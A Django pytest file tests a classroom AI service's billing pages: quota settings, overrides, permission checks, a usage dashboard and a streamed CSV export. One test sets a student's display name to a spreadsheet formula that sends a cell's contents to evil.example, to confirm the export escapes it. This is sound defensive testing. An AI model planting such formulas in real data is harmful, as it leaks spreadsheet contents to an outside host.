"""Teacher pages: quota settings, overrides, the usage dashboard and the CSV export."""

from __future__ import annotations

import csv
import io
import urllib.request
import warnings
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from django.test import Client
from django.urls import reverse

from apps.billing import views as billing_views
from apps.billing.models import QuotaPolicy, SiteBillingSettings, StudentOverride
from apps.billing.selectors import site_billing_settings_forget
from apps.billing.services import ledger_correct, usage_rollup
from apps.providers.models import ChatModel
from tests.billing.conftest import policy_set, settle, streamed, take
from tests.conftest import LiveServer, People, session_cookie_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def teacher(people: People, client: Client) -> Client:
    client.force_login(people.teacher)
    return client


@pytest.fixture
def spent(people: People, fake_model: ChatModel) -> None:
    policy_set(people.classroom)
    with time_machine.travel(datetime(2026, 3, 3, 2, 0, tzinfo=UTC), tick=False):
        settle(take(people.student, people.classroom, fake_model, prompt=1000, max_tokens=500), 1000, 500)
        settle(take(people.classmate, people.classroom, fake_model), 10, 5)
    with time_machine.travel(datetime(2026, 3, 4, 2, 0, tzinfo=UTC), tick=False):
        settle(take(people.student, people.classroom, fake_model, prompt=2000, max_tokens=1000), 2000, 1000)
    usage_rollup(since=datetime(2026, 3, 1, tzinfo=UTC), until=datetime(2026, 3, 6, tzinfo=UTC))


def test_teacher_sets_the_class_quota(people: People, teacher: Client) -> None:
    url = reverse("class-quota", args=[people.classroom.pk])
    assert teacher.get(url).status_code == 200
    response = teacher.post(
        url,
        {
            "period": "week",
            "student_token_limit": "50000",
            "student_cost_limit": "1.5",
            "class_token_pool": "",
            "class_cost_pool": "",
            "rpm": "6",
            "tpm": "20000",
        },
    )
    assert response.status_code == 302
    policy = QuotaPolicy.objects.get(classroom=people.classroom)
    assert (policy.period, policy.student_token_limit, policy.student_cost_limit, policy.rpm) == (
        "week",
        50_000,
        Decimal("1.5"),
        6,
    )


def test_quota_beyond_the_site_cap_or_a_term_without_dates_is_refused(people: People, teacher: Client) -> None:
    SiteBillingSettings.objects.update_or_create(pk=1, defaults={"max_student_token_limit": 10_000})
    site_billing_settings_forget()
    url = reverse("class-quota", args=[people.classroom.pk])
    assert teacher.post(url, {"period": "month", "student_token_limit": "50000"}).status_code == 400
    assert teacher.post(url, {"period": "term", "student_token_limit": "5000"}).status_code == 400
    assert teacher.post(url, {"period": "month", "student_token_limit": "-5"}).status_code == 400
    assert not QuotaPolicy.objects.exists()


def test_teacher_sets_and_removes_a_student_override(people: People, teacher: Client) -> None:
    url = reverse("class-quota-override", args=[people.classroom.pk])
    teacher.post(url, {"student": people.student.pk, "token_limit": "90000"})
    assert StudentOverride.objects.get().token_limit == 90_000
    teacher.post(url, {"student": people.student.pk, "token_limit": ""})
    assert not StudentOverride.objects.exists()
    teacher.post(url, {"student": people.other_student.pk, "token_limit": "1"})  # not in this class
    assert not StudentOverride.objects.exists()


def test_another_teachers_class_is_404_everywhere(people: People, teacher: Client) -> None:
    for name in ("class-quota", "class-usage", "class-usage-csv"):
        assert teacher.get(reverse(name, args=[people.other_classroom.pk])).status_code == 404
    assert teacher.post(reverse("class-quota-override", args=[people.other_classroom.pk])).status_code == 404


def test_students_cannot_see_class_pages(people: People, client: Client) -> None:
    client.force_login(people.student)
    assert client.get(reverse("class-usage", args=[people.classroom.pk])).status_code == 404
    assert client.get(reverse("classes")).status_code == 403


def test_usage_dashboard_shows_days_models_top_users_and_every_student(
    people: People, teacher: Client, spent: None
) -> None:
    page = teacher.get(
        reverse("class-usage", args=[people.classroom.pk]),
        {"start": "2026-03-01", "end": "2026-03-05"},
        HTTP_ACCEPT_LANGUAGE="en",
    ).content.decode()
    assert page.count('class="uchart-day"') == 5  # every day of the range, used or not
    assert page.count('class="uchart-bar series-0"') == 2  # one model, two days of use
    assert "fakeai/fake-model" in page
    assert "0.018" in page  # xiaoming: (1000×2 + 500×8 + 2000×2 + 1000×8) / 1e6 CNY
    assert "Xiaohong" in page


def test_usage_dashboard_refuses_bad_ranges(people: People, teacher: Client) -> None:
    url = reverse("class-usage", args=[people.classroom.pk])
    assert teacher.get(url, {"start": "2026-03-05", "end": "2026-03-01"}).status_code == 400
    assert teacher.get(url, {"start": "nonsense"}).status_code == 400
    assert teacher.post(url).status_code == 405
    # Past the calendar's edge when a day is added or taken off (these were 500s).
    csv_url = reverse("class-usage-csv", args=[people.classroom.pk])
    for query in ({"start": "9999-12-30", "end": "9999-12-31"}, {"end": "0001-01-05"}, {"start": "0001-01-01"}):
        assert teacher.get(url, query).status_code == 400
        assert teacher.get(csv_url, query).status_code == 400


def test_csv_export_has_every_ledger_row_of_the_range(people: People, teacher: Client, spent: None) -> None:
    response = teacher.get(
        reverse("class-usage-csv", args=[people.classroom.pk]), {"start": "2026-03-03", "end": "2026-03-03"}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = streamed(response).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sorted(r["username"] for r in rows) == ["xiaohong", "xiaoming"]
    mine = next(r for r in rows if r["username"] == "xiaoming")
    assert (mine["prompt_tokens"], mine["completion_tokens"], mine["total_tokens"]) == ("1000", "500", "1500")
    assert Decimal(mine["cost_billing"]) == Decimal("0.006") and mine["billing_currency"] == "CNY"
    assert teacher.get(reverse("class-usage-csv", args=[people.classroom.pk]), {"end": "bad"}).status_code == 400


@pytest.mark.django_db(transaction=True)
def test_csv_export_under_the_asgi_server_is_read_a_batch_at_a_time_and_streamed(
    people: People, fake_model: ChatModel, live_asgi: LiveServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Under uvicorn the rows are read a batch at a time as the body goes out: a plain
    iterator was read whole into memory before the first byte (Django's ASGI handler warns
    and lists it), a term of a large class at once."""
    monkeypatch.setattr(billing_views, "CSV_BATCH", 2)
    policy_set(people.classroom)
    with time_machine.travel(datetime(2026, 3, 3, 2, 0, tzinfo=UTC), tick=True):
        made = [
            settle(take(user, people.classroom, fake_model), 10 + index, 5).request_id
            for index, user in enumerate([people.student, people.classmate] * 3)
        ]
    query = "start=2026-03-03&end=2026-03-03"
    request = urllib.request.Request(
        f"{live_asgi.url}{reverse('class-usage-csv', args=[people.classroom.pk])}?{query}",
        headers={"Cookie": f"sessionid={session_cookie_for(people.teacher)}"},
    )
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with urllib.request.urlopen(request, timeout=30) as response:
            assert response.headers["Content-Type"].startswith("text/csv")
            assert "Content-Length" not in response.headers  # streamed, not gathered first
            body = response.read().decode("utf-8-sig")
    assert not [w for w in caught if "iterator" in str(w.message)]
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["request_id"] for row in rows] == made  # every row, once, in order, over three batches and a half


def test_csv_export_writes_a_formula_in_a_name_as_text_and_negative_numbers_as_numbers(
    people: People, teacher: Client, fake_model: ChatModel
) -> None:
    """A student picks their own display name; opened in a spreadsheet, `=HYPERLINK(...)`
    would run as a formula in the teacher's sheet. It is written with a leading apostrophe
    (shown as text); a correction's negative figures stay numbers."""
    people.student.display_name = '=HYPERLINK("http://evil.example/?"&B2,"open")'
    people.student.save()
    policy_set(people.classroom)
    with time_machine.travel(datetime(2026, 3, 3, 2, 0, tzinfo=UTC), tick=False):
        entry = settle(take(people.student, people.classroom, fake_model), 100, 50)
        ledger_correct(entry=entry, prompt_tokens=0, completion_tokens=-5, cost_billing=Decimal("-0.00004"), note="x")
    response = teacher.get(
        reverse("class-usage-csv", args=[people.classroom.pk]), {"start": "2026-03-03", "end": "2026-03-03"}
    )
    rows = list(csv.DictReader(io.StringIO(streamed(response).decode("utf-8-sig"))))
    assert {row["display_name"] for row in rows} == {"'" + people.student.display_name}
    correction = next(row for row in rows if row["completion_tokens"] == "-5")
    assert Decimal(correction["cost_billing"]) == Decimal("-0.00004")  # no apostrophe: a number


def test_student_sees_the_quota_meter_and_reply_costs(people: People, client: Client, fake_model: ChatModel) -> None:
    policy_set(people.classroom, student_token_limit=10_000)
    settle(take(people.student, people.classroom, fake_model, prompt=1000, max_tokens=1500), 1000, 1500)
    client.force_login(people.student)
    page = client.get(reverse("home"), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "2500 of 10000 tokens used" in page and "resets" in page


def test_ledger_is_read_only_in_admin(people: People, client: Client, spent: None) -> None:
    from apps.billing.models import LedgerEntry

    client.force_login(people.admin)
    entry = LedgerEntry.objects.first()
    assert client.get(reverse("admin:billing_ledgerentry_changelist")).status_code == 200
    assert client.get(reverse("admin:billing_ledgerentry_add")).status_code == 403
    assert client.post(reverse("admin:billing_ledgerentry_delete", args=[entry.pk]), {"post": "yes"}).status_code == 403
    assert LedgerEntry.objects.filter(pk=entry.pk).exists()
